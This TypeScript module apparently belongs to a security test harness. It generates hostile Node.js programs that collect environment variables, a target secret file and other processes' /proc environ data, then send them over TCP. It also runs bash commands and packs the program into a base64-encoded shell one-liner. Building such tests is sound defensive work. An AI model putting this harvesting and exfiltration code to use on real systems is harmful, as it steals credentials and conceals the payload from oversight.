import type { AttackPlace } from "./attack.ts";

/**
 * What all hostile programs share: everything that they find, and ways to tell it. Each way ends quietly where nobody is,
 * as a red test would end the attack.
 */
const HELPERS = `
const [fs, net, dgram, dns, cp, path] = await Promise.all(
  ["fs", "net", "dgram", "dns", "child_process", "path"].map((name) => import("node:" + name)),
);
const quiet = async (act) => { try { return await act(); } catch { return ""; } };
const read = (file) => { try { return fs.readFileSync(file, "latin1"); } catch { return ""; } };
const others = () => fs.readdirSync("/proc").filter((name) => Number(name) > 0);
const loot = () => [
  "RANGE " + NONCE, JSON.stringify(process.env), read(T.secretFile),
  ...others().map((pid) => read("/proc/" + pid + "/environ").replaceAll("\\0", " ")),
].join("\\n");
const hex = (text) => Buffer.from(text).toString("hex");
const tell = (place, text) => new Promise((done) => {
  const socket = net.connect(place, () => socket.end(text, done));
  socket.on("error", done).setTimeout(800, () => { socket.destroy(); done(); });
});
const shell = (line) => cp.spawnSync("bash", ["-c", line], { timeout: 4000, encoding: "utf8" });
const job = path.dirname(process.cwd());
`;

/** A module that does what the statements say, wherever it is run. */
export const writeProgram = (statements: string, { targets, nonce }: AttackPlace): string =>
  [
    `const T = ${JSON.stringify(targets)}; const NONCE = ${JSON.stringify(nonce)};`,
    HELPERS.trim(),
    `await quiet(async () => {\n${statements.trim()}\n});`,
  ].join("\n");

/** The same as a shell command. */
export const runProgram = (statements: string, place: AttackPlace): string =>
  `node --input-type=module -e "$(echo ${Buffer.from(writeProgram(statements, place)).toString("base64")} | base64 -d)"`;
